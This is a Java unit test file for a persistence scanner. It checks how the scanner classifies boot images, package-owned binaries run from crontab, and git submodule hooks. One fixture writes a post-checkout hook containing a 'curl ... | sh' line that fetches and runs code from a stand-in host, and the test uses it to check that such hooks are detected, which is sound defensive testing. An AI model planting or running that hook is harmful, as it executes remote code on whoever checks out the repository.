package bzh.vigie.agent.persistence;

import static org.junit.jupiter.api.Assertions.assertEquals;

import bzh.vigie.event.Item;
import bzh.vigie.event.Item.Shipped;
import java.io.IOException;
import java.nio.file.Path;
import java.util.Map;
import java.util.TreeMap;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class OriginsTest {
    @TempDir
    private Path root;

    @Test
    void whatTheMachineMakesOfPackagesFilesIsUnknownAndWhatNobodyShippedIsUnowned() throws IOException {
        Trees.write(root, "/var/lib/dpkg/status", "");
        Trees.write(root, "/var/lib/dpkg/info/base.list", "/.\n/usr\n");
        Trees.write(root, "/boot/initrd.img-6.12.0", "made here");
        Trees.write(root, "/boot/vmlinuz-6.12.0", "of nobody");
        Map<String, Shipped> shipped = new TreeMap<>();
        for (Item item : Scanned.linux(root, "linux.boot.image"::equals).items()) {
            shipped.put(item.name(), item.shipped());
        }
        assertEquals(
                Map.of("initrd.img-6.12.0", Shipped.UNKNOWN, "vmlinuz-6.12.0", Shipped.UNOWNED), Map.copyOf(shipped));
    }

    /** Digests are those of md5sum over "tool", "other" and "# nothing", each with the end of its line. */
    @Test
    void aProgramThatIsNotAsShippedIsToldApartFromAChangedFileThatNamesIt() throws IOException {
        Trees.write(root, "/var/lib/dpkg/status", """
                Package: tool
                Status: install ok installed
                Version: 1
                Architecture: all
                Conffiles:
                 /etc/crontab b255a6b84d8b94174b239bce6c4421ad

                """);
        Trees.write(root, "/var/lib/dpkg/info/tool.list", "/.\n/etc/crontab\n/usr/bin/tool\n/usr/bin/other\n");
        Trees.write(
                root,
                "/var/lib/dpkg/info/tool.md5sums",
                "7cfb3b1aedd632d8ae7cc974271f3652  usr/bin/tool\nba7790b1708b71cb2b61b1a30d824712  usr/bin/other\n");
        Trees.write(root, "/usr/bin/tool", "tool\n");
        Trees.write(root, "/usr/bin/other", "of somebody else\n");
        Trees.write(root, "/etc/crontab", "* * * * * root /usr/bin/tool\n* * * * * root /usr/bin/other\n");
        Map<String, String> told = new TreeMap<>();
        for (Item item : Scanned.linux(root, "linux.cron.system"::equals).items()) {
            told.put(
                    item.name(),
                    item.packageName() + " " + item.shipped() + " "
                            + item.traits().contains(Item.Trait.TARGET_MODIFIED));
        }
        assertEquals(
                Map.of("/usr/bin/tool", "tool MODIFIED false", "/usr/bin/other", "tool MODIFIED true"),
                Map.copyOf(told));
    }

    @Test
    void hooksOfASubmoduleAreRead() throws IOException {
        Trees.write(root, "/srv/app/.git/modules/lib/hooks/post-checkout", "#!/bin/sh\ncurl http://192.0.2.9 | sh\n");
        StringBuilder found = new StringBuilder();
        for (Item item : Scanned.linux(root, "linux.git.repository"::equals).items()) {
            found.append(item.source());
        }
        assertEquals("/srv/app/.git/modules/lib/hooks/post-checkout", found.toString());
    }
}
